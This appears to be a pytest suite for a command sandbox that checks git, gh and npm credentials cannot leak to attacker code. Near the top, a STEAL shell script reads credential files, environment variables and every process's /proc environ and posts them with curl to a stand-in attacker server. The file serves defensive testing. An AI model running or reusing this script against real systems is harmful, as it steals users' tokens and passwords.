"""While a key is open, nothing but its program gets it: what a project, an earlier run or a run
beside it may try."""

import base64
import os
import subprocess
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from _pytest.mark import ParameterSet

from execpolicy.support.record import Value
from tests import confined
from tests.sandbox.keys import servers
from tests.sandbox.keys.conftest import PASSWORD
from tests.sandbox.keys.home import Home, allow
from tests.sandbox.keys.servers import Server
from tests.sandbox.keys.test_stand_ins import install
from tests.sandbox.keys.test_token_files import GH, NPM_ALLOWS, needs_npm
from tests.sandbox.test_run import ROOT, RUN, command
from tests.waiting import HANG_SECONDS, Process, until

STEAL = """#!/bin/sh
# What code does that gets to run beside a key: all that it can see goes into the project.
exec 2>/dev/null
cat ~/.git-credentials ~/.npmrc ~/.config/gh/hosts.yml >> PROJECT/stolen
env >> PROJECT/stolen
for pid in /proc/[0-9]*; do cat $pid/environ $pid/cmdline >> PROJECT/stolen; done
timeout 1 cat - >> PROJECT/stolen
/usr/bin/curl -s -m 3 -d @PROJECT/stolen EVIL/
"""


class Attack(Value):
    """One of `attacks.toml`, which says what its fields are."""

    text: str
    files: dict[str, str] = {}  # noqa: RUF012
    config: str = ""
    before: str = ""
    path: str = ""
    real: bool = True
    environment: dict[str, str] = {}  # noqa: RUF012


SCRIPT = {"steal": STEAL}
ATTACKS = tomllib.loads((Path(__file__).parent / "attacks.toml").read_text())
AGAIN = "for i in $(seq 400); do"


def attacks(program: str) -> list[ParameterSet]:
    """Those on the calls of one program, each under its name."""
    return [pytest.param(Attack(**_fields(one)), id=one["name"]) for one in ATTACKS[program]]


def _fields(one: dict[str, Any]) -> dict[str, Any]:
    return {name: value for name, value in one.items() if name != "name"}


@pytest.fixture
def evil() -> Iterator[Server]:
    """A server of the attacker, which rules let through, and which takes every login."""
    asks = servers.says(b"{}", 401, **{"WWW-Authenticate": 'Basic realm="x"'})
    with servers.serving(asks) as server:
        yield server


class Field:
    """What an attack is tried on: the home has every key, the rules let both servers through."""

    def __init__(self, home: Home, project: Path, good: Server, evil: Server) -> None:
        self.home, self.project, self.good, self.evil = home, project, good, evil
        place = f"127.0.0.1:{good.port}"
        home.git("credential.helper", "store")
        home.write(".git-credentials", f"http://user:{PASSWORD}@{place}\n")
        home.write(".config/gh/hosts.yml", f"{place}:\n    oauth_token: {PASSWORD}\n")
        home.write(".npmrc", f"registry=http://{place}/\n//{place}/:_authToken={PASSWORD}\n")
        home.program("gh", f"{GH}git status >/dev/null\n")
        allow(project, good.port, evil.port, more=NPM_ALLOWS)

    def filled(self, text: str) -> str:
        """A text with the names of this field."""
        branch = ["git", "-C", str(self.project), "branch", "--show-current"]
        names = {
            "STEAL": STEAL,
            "AGAIN": AGAIN,
            "CANARY": PASSWORD,
            "PROJECT": str(self.project),
            "EVILHOST": f"127.0.0.1:{self.evil.port}",
            "EVIL": self.evil.url,
            "GOOD": self.good.url,
        }
        if "BRANCH" in text:
            done = subprocess.run(branch, capture_output=True, text=True, check=True)
            names["BRANCH"] = done.stdout.strip()
        for name, value in names.items():
            text = text.replace(name, value)
        return text

    def prepare(self, attack: Attack, monkeypatch: pytest.MonkeyPatch) -> None:
        """All that was there before the call."""
        for name, text in attack.files.items():
            made = self.project / name
            made.parent.mkdir(parents=True, exist_ok=True)
            if text[:3] == "-> ":
                made.symlink_to(text[3:])
                continue
            made.write_text(self.filled(text))
            made.chmod(0o755)
        with (self.project / ".git/config").open("a") as config:
            config.write(self.filled(attack.config))
        if attack.before:
            self.run(attack.before)
        for name, value in attack.environment.items():
            monkeypatch.setenv(name, self.filled(value))
        if attack.path:
            found = os.environ["PATH"]
            monkeypatch.setenv("PATH", f"{self.project / attack.path}:{found}")

    def run(self, text: str) -> str:
        """What a confined run of a text says."""
        words = command(self.project, "-c", self.filled(text))
        done = subprocess.run(words, capture_output=True, cwd=ROOT, timeout=HANG_SECONDS)
        return (done.stdout + done.stderr).decode("utf-8", "replace")

    def run_outside(self, text: str) -> str:
        """The same without execpolicy: it writes below this directory alone."""
        *walls, _ = confined.words(self.project.parent)
        words = [*walls, "--share-net", "--chdir", str(self.project), "--", "bash", "-c"]
        done = subprocess.run(
            [*words, self.filled(text)], capture_output=True, timeout=HANG_SECONDS
        )
        return (done.stdout + done.stderr).decode("utf-8", "replace")

    def lost(self, said: str) -> list[str]:
        """Where the key has got to: the project, the attacker's server, what is shown."""
        shown = [("shown", said)] if _has_key(said) else []
        asked = [(one.path, f"{one.headers} {one.body!r}") for one in self.evil.asked]
        asked += [(one.path, repr(one.body)) for one in self.good.asked]
        found = os.walk(self.project)  # which may change meanwhile
        paths = [Path(at, name) for at, _, names in found for name in names]
        files = [path for path in paths if path.is_file() and not path.is_symlink()]
        kept = [(str(path), _content(path)) for path in files]
        return [where for where, text in (*shown, *asked, *kept) if _has_key(text)]


def _content(path: Path) -> str:
    """What is in a file, and not in what a link in its place leads to by now."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW)
    except OSError:
        return ""
    with open(fd, encoding="latin-1") as file:
        return file.read()


def _has_key(text: str) -> bool:
    return PASSWORD in text or base64.b64encode(f"user:{PASSWORD}".encode()).decode() in text


@pytest.fixture
def field(home: Home, project: Path, remote: Server, evil: Server) -> Field:
    """A project with a remote of git that wants a password."""
    return Field(home, project, remote, evil)


@pytest.fixture
def token_field(home: Home, project: Path, evil: Server) -> Iterator[Field]:
    """A project, and a server that takes the tokens of gh and of npm."""
    answer = servers.says(b'{"username": "somebody"}')
    with servers.serving(answer) as server:
        yield Field(home, project, server, evil)


@pytest.mark.rest
@pytest.mark.parametrize("attack", attacks("git"))
def test_git_loses_no_key(field: Field, monkeypatch: pytest.MonkeyPatch, attack: Attack) -> None:
    _tried(field, attack, monkeypatch)


@pytest.mark.rest
@pytest.mark.parametrize("attack", attacks("gh"))
def test_gh_loses_no_key(
    token_field: Field, monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    _tried(token_field, attack, monkeypatch)


@needs_npm
@pytest.mark.rest
@pytest.mark.parametrize("attack", attacks("npm"))
def test_npm_loses_no_key(
    token_field: Field, monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    _tried(token_field, attack, monkeypatch)


@pytest.mark.rest
@pytest.mark.parametrize("attack", attacks("stand_in"))
def test_stand_ins_lose_no_key(
    token_field: Field, monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    install(token_field.home, token_field.project, token_field.good.port)
    _tried(token_field, attack, monkeypatch)


def _tried(field: Field, attack: Attack, monkeypatch: pytest.MonkeyPatch) -> None:
    field.prepare(attack, monkeypatch)
    assert not field.lost(field.run(attack.text))
    if attack.real:
        field.good.asked.clear()
        assert field.lost(field.run_outside(attack.text)), "it is no attack"


@pytest.mark.rest
@pytest.mark.parametrize("name", ATTACKS["beside"])
@pytest.mark.parametrize("text", ["git fetch", "gh pr view 4", "npm whoami"])
def test_a_run_beside_gets_no_key(
    field: Field, monkeypatch: pytest.MonkeyPatch, name: str, text: str
) -> None:
    """The server takes every key, and is slow, so that the other run has its time."""
    field.good.wants_any(0.4)
    field.prepare(Attack("", SCRIPT), monkeypatch)
    rules = str(field.project.parent / "a.rules")
    session = ["--session", str(os.getpid())]
    (field.project / "sub").mkdir()
    words = [*RUN, "--rules", rules, *session]
    script = field.filled(f"touch began; {ATTACKS['beside'][name]}")
    project, sub = str(field.project), str(field.project / "sub")
    with Process([*words, "--cwd", project, "-c", script], cwd=ROOT) as beside:
        until((field.project / "began").exists)
        done = subprocess.run([*words, "--cwd", sub, "-c", text], cwd=ROOT, capture_output=True,
                              timeout=HANG_SECONDS)  # fmt: skip
        beside.kill()
    said = (done.stdout + done.stderr).decode("utf-8", "replace")
    kept = ("the run was ended", "no key of yours was opened", "bwrap: ")
    assert field.good.keys or any(each in said for each in kept), said
    assert not field.lost(said)


@pytest.mark.rest
@pytest.mark.parametrize("text", ["git fetch", "gh pr view 4", "npm whoami"])
@pytest.mark.parametrize("asks", [False, True])
def test_a_redirection_takes_no_key_along(field: Field, text: str, *, asks: bool) -> None:
    """`asks`: the server wants the key first."""
    field.good.redirects(field.evil.url, asks=asks)
    said = field.run(text)
    assert not field.lost(said)
    assert not field.evil.asked, said
    field.run_outside(text)
    assert field.evil.asked or text == "npm whoami"
